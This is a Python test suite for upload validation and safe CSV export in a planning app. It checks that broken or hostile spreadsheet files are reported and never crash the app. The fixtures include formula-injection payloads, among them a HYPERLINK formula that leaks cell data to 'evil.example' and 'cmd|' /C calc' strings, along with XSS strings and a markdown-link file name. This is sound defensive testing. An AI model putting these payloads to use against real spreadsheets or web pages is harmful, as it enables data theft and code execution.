"""Issue 6: hostile and broken uploads of planners' figures, and safe CSV exports.

Every file of the list (empty, header only, wrong separator, UTF-16, Windows-1258, BOM, mixed
decimal marks, non-numeric and NaN/inf values, negative and > 100 % shares, duplicate and future
years, 100,000 rows, very long cells, binary data named .csv, a corrupt or hostile .xlsx, a file
over the upload limit, spreadsheet formulas) gets a message naming the problem and where, and
nothing raises. Hypothesis then throws arbitrary bytes and structured-but-hostile tables at the
readers: every row that comes back as good obeys the rules, every data row is either imported
or named, and the inputs are never changed.
"""

from __future__ import annotations

import copy
import csv
import io
import math
import re
import tomllib
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from model import scenario_file
from model.projection import is_share_unit
from model.userdata import (
    FORMULA_PREFIXES,
    MAX_BYTES,
    MAX_CELL_CHARS,
    NOT_ENTERABLE,
    RANK_MAX,
    USER_SOURCE,
    YEAR_MAX,
    YEAR_MIN,
    UploadResult,
    known_indicators_from,
    parse_upload,
    to_safe_csv,
    validate_table,
)
from text.problems import message
from ui.uploads import template_csv

ROOT = Path(__file__).resolve().parents[2]
CORPUS = Path(__file__).parents[1] / "corpus" / "uploads"
GOOD_COLUMNS = ["indicator_id", "year", "value", "note", "source"]
HEADER = "indicator_id,year,value,note\n"


@pytest.fixture(scope="module")
def known(ds) -> dict[str, str]:
    return known_indicators_from(ds.targets, ds.indicators)


def where(result: UploadResult) -> list[tuple[int, str | None, str]]:
    """(line, column, reason) of every rejected row problem, in file order."""
    return [(p.row, p.column, p.reason_code) for p in result.rejected]


def triples(result: UploadResult) -> list[tuple[str, int, float]]:
    g = result.good
    return list(zip(g["indicator_id"], g["year"].astype(int), g["value"].round(6), strict=True))


def codes(problems) -> list[str]:
    return [p.code for p in problems]


# ----------------------------------------------------------------------------- the list

# name: (file errors, rejected (line, column, reason), good (id, year, value), notices)
CORPUS_CASES = {
    "empty.csv": (["empty_file"], [], [], []),
    "header_only.csv": (["no_data_rows"], [], [], []),
    "wrong_delimiter_pipe.csv": (["wrong_delimiter"], [], [], []),
    "wrong_delimiter_rows.csv": (
        [],
        [(3, None, "wrong_delimiter"), (4, None, "wrong_delimiter")],
        [("fiber_households", 2023, 79.4)],
        [],
    ),
    "utf16.csv": (
        [],
        [],
        [("smartphone_share", 2024, 88.5), ("fiber_communes", 2024, 100.0)],
        ["decoded_utf16"],
    ),
    "utf16le_nobom.csv": (
        [],
        [],
        [("smartphone_share", 2024, 88.5), ("fiber_communes", 2024, 100.0)],
        ["decoded_utf16"],
    ),
    "cp1258.csv": (
        [],
        [],
        [("videoconf_commune", 2024, 45.5), ("videoconf_commune", 2023, 30.0)],
        ["decoded_cp1258"],
    ),
    "good_vi_excel.csv": ([], [], 5, []),  # UTF-8 with BOM, ';', decimal comma
    "bom_then_cp1258.csv": (["unknown_encoding"], [], [], []),
    "mixed_decimals.csv": (
        [],
        [(4, "value", "ambiguous_number"), (5, "value", "ambiguous_number"), (6, "value", "share_out_of_range")],
        [("fiber_households", 2023, 79.4), ("fiber_households", 2024, 82.4)],
        ["mixed_decimal_marks"],
    ),
    "not_finite.csv": (
        [],
        [
            (2, "value", "not_finite"),
            (3, "value", "not_finite"),
            (4, "value", "not_finite"),
            (5, "value", "not_finite"),
            (6, "value", "not_numeric"),
            (7, "value", "excel_error"),
        ],
        [("fiber_households", 2025, 80.0)],
        [],
    ),
    "shares.csv": (
        [],
        [
            (2, "value", "share_out_of_range"),
            (3, "value", "share_out_of_range"),
            (4, "value", "share_out_of_range"),
            (8, "value", "negative_value"),
        ],
        [
            ("fiber_households", 2024, 100.0),
            ("fiber_communes", 2024, 0.0),
            ("labour_productivity_growth", 2024, -3.5),
        ],
        [],
    ),
    "years.csv": (
        [],
        [
            (2, "year", "duplicate"),
            (3, "year", "duplicate"),
            (4, "year", "year_out_of_range"),
            (5, "year", "year_out_of_range"),
            (6, "year", "year_out_of_range"),
            (7, "year", "year_out_of_range"),
        ],
        [("fiber_households", 2023, 79.0)],
        [],
    ),
    "unclosed_quote.csv": (
        [],
        [(3, None, "unclosed_quote")],
        [("fiber_households", 2022, 74.5)],
        [],
    ),
    "formulas_hostile.csv": (
        [],
        [(5, "value", "formula"), (6, "indicator_id", "formula"), (7, "year", "formula")],
        [
            ("fiber_households", 2022, 74.5),
            ("fiber_households", 2023, 79.4),
            ("fiber_households", 2024, 82.4),
            ("smartphone_share", 2022, 60.0),
        ],
        ["formula_neutralised"],
    ),
    "html.csv": (
        [],
        [(2, "indicator_id", "unknown_indicator"), (4, "indicator_id", "unknown_indicator")],
        [("fiber_households", 2024, 80.0)],
        [],
    ),
    "binary_renamed.csv": (["binary_file"], [], [], []),
    "corrupt.xlsx": (["corrupt_xlsx"], [], [], []),
    "zip_not_xlsx.xlsx": (["corrupt_xlsx"], [], [], []),
    "far_cell.xlsx": (["sheet_too_large"], [], [], ["columns_ignored"]),
    "billion_laughs.xlsx": (["corrupt_xlsx"], [], [], []),
    "external_entity.xlsx": (["corrupt_xlsx"], [], [], []),
    "formula_nocache.xlsx": ([], [(2, "value", "formula_no_value")], [("fiber_communes", 2023, 90.0)], []),
}


@pytest.mark.parametrize("name", list(CORPUS_CASES))
def test_corpus_file_gets_its_message_and_location(name, known):
    errors, rejected, good, notices = CORPUS_CASES[name]
    data = (CORPUS / name).read_bytes()
    before = bytes(data)
    result = parse_upload(data, name, known)
    assert codes(result.errors) == errors
    assert where(result) == rejected
    if isinstance(good, int):
        assert len(result.good) == good and result.rejected == ()
    else:
        assert triples(result) == good
    assert codes(result.notices) == notices
    assert data == before
    assert list(result.good.columns) == GOOD_COLUMNS
    if errors:
        assert result.good.empty and not result.ok
    for p in result.rejected:  # the message names the line (and column) in both languages
        assert message(p, "en").startswith(f"Line {p.row}") and message(p, "vi").startswith(f"Dòng {p.row}")
        if p.column:
            assert f"column {p.column}" in message(p, "en") and f"cột {p.column}" in message(p, "vi")
    for e in (*result.errors, *result.notices):
        assert message(e, "vi") and message(e, "en") and message(e, "vi") != message(e, "en")


def test_messages_say_what_is_wrong(known):
    def first(name: str, kind: str = "rejected") -> str:
        r = parse_upload((CORPUS / name).read_bytes(), name, known)
        return message((r.rejected if kind == "rejected" else r.errors)[0], "en")

    assert "'|'" in first("wrong_delimiter_pipe.csv", "errors")
    assert "separated by ','" in first("wrong_delimiter_rows.csv")
    assert "'1,234'" in first("mixed_decimals.csv")
    assert "lines 3–5" in first("unclosed_quote.csv")
    assert "below row 50,000" in first("far_cell.xlsx", "errors")
    r = parse_upload((CORPUS / "mixed_decimals.csv").read_bytes(), "m.csv", known)
    assert "decimal comma (lines 2, 6) and a decimal point (lines 3)" in message(r.notices[0], "en")


def test_hostile_text_is_kept_as_text_and_shown_safely(known):
    r = parse_upload((CORPUS / "html.csv").read_bytes(), "html.csv", known)
    assert r.rejected[0].value == "<script>alert(1)</script>"  # data, not markup: the UI escapes
    assert r.good["note"].iloc[0] == "<img src=x onerror=alert(1)>"
    bidi = r.rejected[1]
    assert "\u202e" not in bidi.value and "\u202e" not in message(bidi, "en")
    assert bidi.value == "fiber_households\ufffd"
    f = parse_upload((CORPUS / "formulas_hostile.csv").read_bytes(), "f.csv", known)
    assert list(f.good["note"].iloc[:3]) == [
        '\'=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
        "'+cmd|' /C calc'!A0",
        "'@SUM(1+1)*cmd|' /C calc'!A0",
    ]


def test_bom_variants(known):
    body = "indicator_id;year;value\nfiber_households;2024;82,4\n"
    for data, encoding in (
        (b"\xef\xbb\xbf" + body.encode(), "utf-8-sig"),
        (body.encode("utf-16"), "utf-16"),
        (b"\xfe\xff" + body.encode("utf-16-be"), "utf-16"),
    ):
        r = parse_upload(data, "x.csv", known)
        assert triples(r) == [("fiber_households", 2024, 82.4)] and r.encoding == encoding
    odd = parse_upload(body.encode("utf-16") + b"\x00", "x.csv", known)  # truncated UTF-16
    assert codes(odd.errors) == ["unknown_encoding"]
    bom_only = parse_upload(b"\xef\xbb\xbf", "x.csv", known)
    assert codes(bom_only.errors) == ["empty_file"]


def test_100000_rows_are_refused_quickly_as_a_whole(known):
    data = (HEADER + "x,2024,1,\n" * 100_000).encode()
    assert len(data) < MAX_BYTES
    r = parse_upload(data, "big.csv", known)
    assert codes(r.errors) == ["too_many_rows"] and r.good.empty
    assert "10,000" in message(r.errors[0], "en")


def workbook(n_rows: int) -> bytes:
    import openpyxl

    wb = openpyxl.Workbook(write_only=True)
    ws = wb.create_sheet()
    ws.append(["indicator_id", "year", "value"])
    for i in range(n_rows):
        ws.append(["x", 2000 + i % 36, i % 100])
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def test_100000_rows_in_a_workbook_are_refused(known):
    huge = parse_upload(workbook(100_000), "big.xlsx", known)  # unpacks to about 11 MB
    assert codes(huge.errors) == ["unzipped_too_large"] and huge.good.empty
    assert "10 MB" in message(huge.errors[0], "en")
    big = parse_upload(workbook(12_000), "big.xlsx", known)
    assert codes(big.errors) == ["too_many_rows"] and big.good.empty


def test_file_over_the_upload_limit(known):
    data = (HEADER + "fiber_households,2024,80,\n").encode() + b" " * MAX_BYTES
    r = parse_upload(data, "big.csv", known)
    assert codes(r.errors) == ["too_large"]
    assert f"{len(data):,}" in message(r.errors[0], "en") and "2 MB" in message(r.errors[0], "en")


def test_upload_limits_match_the_server_setting():
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    limit = config["server"]["maxUploadSize"] * 1024 * 1024  # Streamlit counts MB as MiB
    assert MAX_BYTES == limit
    assert scenario_file.MAX_FILE_BYTES == limit


@pytest.mark.parametrize(
    ("cell", "column", "expected"),
    [
        ("note", "note", [(2, "note", "cell_too_long")]),
        ("indicator_id", "indicator_id", [(2, "indicator_id", "cell_too_long")]),
        ("value", "value", [(2, "value", "cell_too_long")]),
    ],
)
def test_long_cells_are_named(cell, column, expected, known):
    row = {"indicator_id": "fiber_households", "year": "2024", "value": "80", "note": ""}
    row[cell] = "9" * 10_000 if cell == "value" else "x" * (MAX_CELL_CHARS + 1)
    data = (HEADER + ",".join(row.values()) + "\n").encode()
    r = parse_upload(data, "x.csv", known)
    assert where(r) == expected and r.good.empty


def test_a_cell_beyond_the_csv_field_limit_is_a_clear_error(known):
    for quoted in (False, True):
        cell = '"' + "x" * 200_000 + '"' if quoted else "x" * 200_000
        data = (HEADER + "fiber_households,2023,80,\n" + f"fiber_households,2024,80,{cell}\n").encode()
        r = parse_upload(data, "x.csv", known)
        assert codes(r.errors) == ["csv_unreadable"], quoted
        assert "line 3" in message(r.errors[0], "en")


def test_an_unclosed_quote_at_the_end_swallows_nothing_silently(known):
    data = (HEADER + 'fiber_households,2023,79,"open\nfiber_households,2024,82,\n').encode()
    r = parse_upload(data, "x.csv", known)
    assert where(r) == [(2, None, "unclosed_quote")] and r.good.empty


def test_multi_line_notes_are_still_fine(known):
    data = (HEADER + 'fiber_households,2023,79,"Nguồn: Sở KH&CN, báo cáo\nquý 4, 2023"\n').encode()
    r = parse_upload(data, "x.csv", known)
    assert triples(r) == [("fiber_households", 2023, 79.0)] and r.rejected == ()


@pytest.mark.parametrize(
    ("values", "expected"),
    [
        (['"1,234"', '"82,4"'], [1.234, 82.4]),  # the file writes decimal commas: 1,234 = 1.234
        (['"1,234"', "82.4"], [1234.0, 82.4]),  # decimal points: the comma groups thousands
        (["1.234", '"82,4"'], [1234.0, 82.4]),  # decimal commas: the point groups thousands
        (["1.234", "0.5"], [1.234, 0.5]),
        (['"1,234"'], [1.234]),  # no other evidence: the Vietnamese decimal comma
        (["1.234"], [1.234]),
        (['"1,234"', '"82,4"', "0.5"], None),  # both marks in the file: refused as ambiguous
        (["1.234", '"1.234,5"', "2.5"], None),
    ],
)
def test_ambiguous_thousands_follow_the_files_decimal_mark(values, expected, known):
    lines = [f"fixed_broadband_per_100,{2020 + i},{v}," for i, v in enumerate(values)]
    r = parse_upload((HEADER + "\n".join(lines) + "\n").encode(), "x.csv", known)
    if expected is None:
        assert (2, "value", "ambiguous_number") in where(r)
        assert "mixed_decimal_marks" in codes(r.notices)
        assert all(p.reason_code == "ambiguous_number" for p in r.rejected)
    else:
        assert list(r.good["value"].round(6)) == expected and r.rejected == ()


def test_thousands_separators_read_with_the_files_convention(known):
    comma_file = (HEADER + 'fixed_broadband_per_100,2023,"12,5",\nmobile_subs_per_100,2024,1.234,\n').encode()
    assert triples(parse_upload(comma_file, "x.csv", known))[1] == ("mobile_subs_per_100", 2024, 1234.0)
    dot_file = (HEADER + 'fixed_broadband_per_100,2023,12.5,\nmobile_subs_per_100,2024,"1,234",\n').encode()
    assert triples(parse_upload(dot_file, "x.csv", known))[1] == ("mobile_subs_per_100", 2024, 1234.0)


def test_shipped_data_is_untouched_by_any_upload(ds, known):
    frames = {"indicators": ds.indicators.copy(), "targets": ds.targets.copy()}
    known_before = dict(known)
    for path in sorted(CORPUS.iterdir()):
        if path.suffix in (".csv", ".xlsx"):
            parse_upload(path.read_bytes(), path.name, known)
    pd.testing.assert_frame_equal(ds.indicators, frames["indicators"])
    pd.testing.assert_frame_equal(ds.targets, frames["targets"])
    assert known == known_before


# ----------------------------------------------------------------------------- invariants


def assert_good_rows_obey_the_rules(result: UploadResult, known: dict[str, str]) -> None:
    good = result.good
    assert list(good.columns) == GOOD_COLUMNS
    assert str(good["year"].dtype) == "int64" and str(good["value"].dtype) == "float64"
    if result.errors:
        assert good.empty
    for ind, year, value, note, source in good.itertuples(index=False):
        assert ind in known and ind not in NOT_ENTERABLE
        assert YEAR_MIN <= year <= YEAR_MAX
        assert math.isfinite(value)
        unit = known[ind]
        if is_share_unit(unit):
            assert 0.0 <= value <= 100.0
        elif unit == "rank":
            assert value.is_integer() and 1 <= value <= RANK_MAX
        elif "/yr" not in unit and "/year" not in unit:
            assert value >= 0
        assert isinstance(note, str) and len(note) <= MAX_CELL_CHARS + 1
        assert not note.startswith(FORMULA_PREFIXES)
        assert source == USER_SOURCE
    assert not good.duplicated(["indicator_id", "year"]).any()
    # nothing is lost silently: each data row is either imported or named
    if not result.errors:
        assert len(good) + len({p.row for p in result.rejected}) == result.n_data_rows
    for p in result.rejected:
        assert p.row >= 2 and message(p, "en") and message(p, "vi")


@settings(max_examples=120, deadline=None)
@given(
    data=st.binary(max_size=500),
    prefix=st.sampled_from([b"", b"\xef\xbb\xbf", b"\xff\xfe", b"PK\x03\x04", b"indicator_id,year,value\n"]),
    name=st.sampled_from(["a.csv", "a.xlsx", "a.xls", "a.txt", "", "a.CSV"]),
)
def test_arbitrary_bytes_never_raise(data, prefix, name, known):
    result = parse_upload(prefix + data, name, known)
    assert_good_rows_obey_the_rules(result, known)


HOSTILE_TEXT = st.sampled_from(
    [
        "",
        " ",
        "=1+1",
        "+84",
        "-",
        "@x",
        "\t",
        '"',
        '""',
        '"a,b"',
        "a\nb",
        "\r",
        "NaN",
        "inf",
        "-inf",
        "1e999",
        "#N/A",
        "<script>alert(1)</script>",
        "\u202e",
        "\u200b",
        "\x00",
        "x" * 250,
        "1,234",
        "1.234",
        "1.234,5",
        "82,4",
        "100%",
        "-0",
        "２０２４",
        "2024.5",
        "٢٠٢٤",
        "None",
        "null",
        "True",
    ]
)


def id_cells(known: dict[str, str]):
    return st.one_of(
        st.sampled_from(sorted(known)),
        st.sampled_from(sorted(known)).map(str.upper),
        st.sampled_from(sorted(NOT_ENTERABLE)),
        HOSTILE_TEXT,
        st.text(max_size=12),
    )


YEAR_CELLS = st.one_of(
    st.integers(1990, 2040).map(str),
    st.integers(-(10**30), 10**30).map(str),
    st.floats(allow_nan=True, allow_infinity=True).map(repr),
    HOSTILE_TEXT,
)
VALUE_CELLS = st.one_of(
    st.floats(-50, 150).map(lambda v: f"{v:.3f}"),
    st.floats(-50, 150).map(lambda v: f"{v:.2f}".replace(".", ",")),
    st.integers(-5, 120).map(str),
    st.floats(allow_nan=True, allow_infinity=True).map(repr),
    HOSTILE_TEXT,
)
NOTE_CELLS = st.one_of(HOSTILE_TEXT, st.text(max_size=30))


CANONICAL = {"Mã chỉ tiêu": "indicator_id", "Năm": "year", "Giá trị": "value", "Ghi chú": "note"}


def csv_cell(text: str, delimiter: str) -> str:
    needs = any(ch in text for ch in (delimiter, '"', "\n", "\r")) or text != text.strip()
    return '"' + text.replace('"', '""') + '"' if needs else text


@settings(
    max_examples=120,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
@given(data=st.data())
def test_structured_hostile_csv_never_raises_and_good_rows_are_valid(data, known):
    delimiter = data.draw(st.sampled_from([",", ";", "\t"]), label="delimiter")
    header = data.draw(
        st.sampled_from(
            [
                ["indicator_id", "year", "value", "note"],
                ["Mã chỉ tiêu", "Năm", "Giá trị", "Ghi chú"],
                ["value", "indicator_id", "year"],
                ["indicator_id", "year", "value", "note", ""],
            ]
        ),
        label="header",
    )
    n = data.draw(st.integers(0, 12), label="rows")
    lines = [delimiter.join(header)]
    for _ in range(n):
        cells = {
            "indicator_id": data.draw(id_cells(known)),
            "year": data.draw(YEAR_CELLS),
            "value": data.draw(VALUE_CELLS),
            "note": data.draw(NOTE_CELLS),
        }
        row = [cells.get(CANONICAL.get(h, h), "") for h in header]
        if data.draw(st.booleans()):  # written properly quoted, or raw (as a bad tool would)
            row = [csv_cell(c, delimiter) for c in row]
        sep = delimiter if data.draw(st.integers(0, 9)) else data.draw(st.sampled_from([",", ";", "|"]))
        lines.append(sep.join(row))
    text = data.draw(st.sampled_from(["\n", "\r\n", "\r"])).join(lines)
    encoding = data.draw(st.sampled_from(["utf-8", "utf-8-sig", "utf-16", "cp1258"]), label="enc")
    raw = text.encode(encoding, errors="replace")
    result = parse_upload(raw, "fuzz.csv", known)
    assert_good_rows_obey_the_rules(result, known)


def table_cells(known):
    return st.one_of(
        st.none(),
        st.just(np.nan),
        st.just(pd.NA),
        st.just(float("inf")),
        st.booleans(),
        st.integers(-(10**20), 10**20),
        st.integers(1995, 2040),
        st.floats(allow_nan=True, allow_infinity=True),
        st.just(np.float32("nan")),
        st.just(np.int64(2024)),
        st.sampled_from(sorted(known)),
        HOSTILE_TEXT,
    )


@settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_validate_table_never_raises_never_mutates(data, known):
    n = data.draw(st.integers(0, 8), label="rows")
    columns = data.draw(
        st.sampled_from(
            [
                ["indicator_id", "year", "value", "note"],
                ["mã chỉ tiêu", "năm", "giá trị"],
                ["indicator_id", "year", "value", "colour"],
            ]
        )
    )
    cells = table_cells(known)
    frame = pd.DataFrame(
        {c: pd.Series([data.draw(cells) for _ in range(n)], dtype=object) for c in columns}
    )
    if data.draw(st.booleans()) and n:
        frame["indicator_id" if "indicator_id" in frame else columns[0]] = data.draw(
            st.sampled_from(sorted(known))
        )
    before = frame.copy(deep=True)
    snapshot = copy.deepcopy(frame.to_dict("list"))
    result = validate_table(frame, known)
    pd.testing.assert_frame_equal(frame, before)
    assert frame.to_dict("list").keys() == snapshot.keys()
    assert_good_rows_obey_the_rules(result, known)


# ----------------------------------------------------------------------------- safe export


@settings(max_examples=80, deadline=None)
@given(
    texts=st.lists(st.one_of(HOSTILE_TEXT, st.text(max_size=20)), min_size=1, max_size=6),
    numbers=st.lists(st.floats(allow_nan=True, allow_infinity=True), min_size=1, max_size=6),
)
def test_safe_csv_never_writes_a_formula_cell(texts, numbers):
    n = min(len(texts), len(numbers))
    frame = pd.DataFrame({"note": texts[:n], "value": numbers[:n], "id": texts[:n][::-1]})
    before = frame.copy()
    out = to_safe_csv(frame)
    pd.testing.assert_frame_equal(frame, before)
    rows = list(csv.reader(io.StringIO(out.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["note", "value", "id"] and len(rows) == n + 1
    for row in rows[1:]:
        note, value, ident = row  # a CR inside a cell cannot split the row
        for text in (note, ident):
            assert not text.startswith(FORMULA_PREFIXES), text
        if value.startswith("-"):  # a negative number stays a number, never a formula
            float(value)


def test_the_template_has_no_formula_cells(known):
    for lang in ("vi", "en"):
        text = template_csv(lang, {**known, "=cmd": "%", "@x": "-1"}).decode("utf-8-sig")
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=";" if lang == "vi" else ","):
            assert not any(cell.startswith(FORMULA_PREFIXES) for cell in row), row


def test_a_carriage_return_cannot_smuggle_a_formula_row():
    frame = pd.DataFrame({"note": ['ok\r=HYPERLINK("http://evil.example","x")', "a\r\nb"], "value": [1.0, 2.0]})
    rows = list(csv.reader(io.StringIO(to_safe_csv(frame).decode("utf-8-sig"), newline="")))
    assert rows == [
        ["note", "value"],
        ['ok\n=HYPERLINK("http://evil.example","x")', "1.0"],
        ["a\nb", "2.0"],
    ]


# ----------------------------------------------------------------------------- in the app


def _targets_page():
    from streamlit.testing.v1 import AppTest

    at = AppTest.from_file("../../app.py", default_timeout=120)
    at.query_params["lang"] = "en"
    at.run()
    at.switch_page("pages/targets.py").run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def unescape(markdown: str) -> str:
    """Markdown source as the reader sees it (backslash escapes removed)."""
    return re.sub(r"\\(.)", r"\1", markdown)


def _upload(at, name: str, data: bytes):
    at.file_uploader(key="obs_upload").set_value((name, data, "text/csv")).run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def test_bad_uploads_in_the_app_keep_the_figures_already_entered(known):
    at = _targets_page()
    _upload(at, "good_en.csv", (CORPUS / "good_en.csv").read_bytes())
    entered = at.session_state["user_obs"].copy()
    assert len(entered) == 3
    hostile = {
        "binary.csv": (CORPUS / "binary_renamed.csv").read_bytes(),
        "far_cell.xlsx": (CORPUS / "far_cell.xlsx").read_bytes(),
        "big.csv": (HEADER + "fiber_households,2024,80,\n").encode() + b" " * MAX_BYTES,
        "header_only.csv": (CORPUS / "header_only.csv").read_bytes(),
        "all_rows_bad.csv": (CORPUS / "not_finite.csv").read_bytes().replace(b"2025,80", b"2025,-1"),
    }
    for name, data in hostile.items():
        _upload(at, name, data)
        pd.testing.assert_frame_equal(at.session_state["user_obs"], entered)
        shown = [unescape(w.value) for w in at.warning] + [unescape(s.value) for s in at.success]
        assert any(name in text for text in shown), (name, shown)
        assert not at.error
    # the rejected rows of the last file are listed with line and reason
    tables = [d.value for d in at.dataframe]
    assert any(len(t) == 7 and list(t.iloc[:, 0]) == [2, 3, 4, 5, 6, 7, 8] for t in tables)


def test_the_uploaded_file_name_is_not_rendered_as_markdown():
    at = _targets_page()
    name = "[Bấm vào đây](http://evil.example) <b>x</b>.csv"
    _upload(at, name, b"")
    shown = [w.value for w in at.warning]
    assert shown and all("](http" not in text and "<b>" not in text for text in shown), shown
    assert any(name in unescape(text) for text in shown)  # still named, as plain text
